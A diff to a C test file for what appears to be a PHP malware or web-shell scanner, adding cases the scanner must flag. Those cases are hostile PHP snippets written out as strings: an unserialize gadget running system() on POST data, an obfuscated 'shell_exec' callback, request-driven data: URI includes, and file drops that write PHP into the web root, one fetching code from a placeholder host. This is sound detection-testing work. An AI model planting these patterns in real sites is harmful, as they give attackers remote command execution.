@@ -115,6 +115,14 @@ static void test_functions_objects(void **state)
 	       HS_SEV_CRITICAL);
 	expect("<?php function w() { $a = func_get_args(); eval($a[0]); } w($_GET['w']);",
 	       "php.input_to_eval", HS_SEV_CRITICAL);
+	/* object injection: the gadget's properties come from the request */
+	expect(
+	    "<?php class G { public $c; function __toString() { system($this->c); return ''; } }\n"
+	    "echo unserialize(base64_decode($_POST['o']));",
+	    "php.input_to_command", HS_SEV_CRITICAL);
+	/* a folded callee in a callback's second argument */
+	expect("<?php $a = array($_COOKIE['c']); array_walk($a, 'sh' . 'ell_' . 'exec');",
+	       "php.input_to_command", HS_SEV_CRITICAL);
 	/* a function calling itself stays bounded */
 	expect("<?php function r($x) { r($x); eval($x); } r($_GET['r']);", "php.input_to_eval",
 	       HS_SEV_CRITICAL);
@@ -224,6 +232,16 @@ static void test_preg_e_and_includes(void **state)
 	/* the data: payload is a layer of its own, with the command in it */
 	assert_non_null(find("php.input_to_command"));
 	expect("<?php include 'php://input';", "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $r = $_REQUEST; require 'data://text/plain;base64,' . $r['i'];",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php include base64_decode('L3RtcC8uY2FjaGUvaWNvbl8xLnBuZw==');",
+	       "php.obfuscated_include", HS_SEV_HIGH);
+	expect("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/x/y.php',\n"
+	       "  base64_decode('PD9waHAgZWNobyAxOw=='));",
+	       "php.remote_code_drop", HS_SEV_HIGH);
+	expect(
+	    "<?php file_put_contents(__DIR__ . '/c.php', file_get_contents('http://e.invalid/a'));",
+	    "php.remote_code_drop", HS_SEV_HIGH);
 	expect("<?php eval(file_get_contents('http://example.invalid/x.txt'));",
 	       "php.remote_code_exec", HS_SEV_HIGH);
 	expect("<?php copy('http://example.invalid/s.txt', 'cache.php');", "php.remote_code_drop",
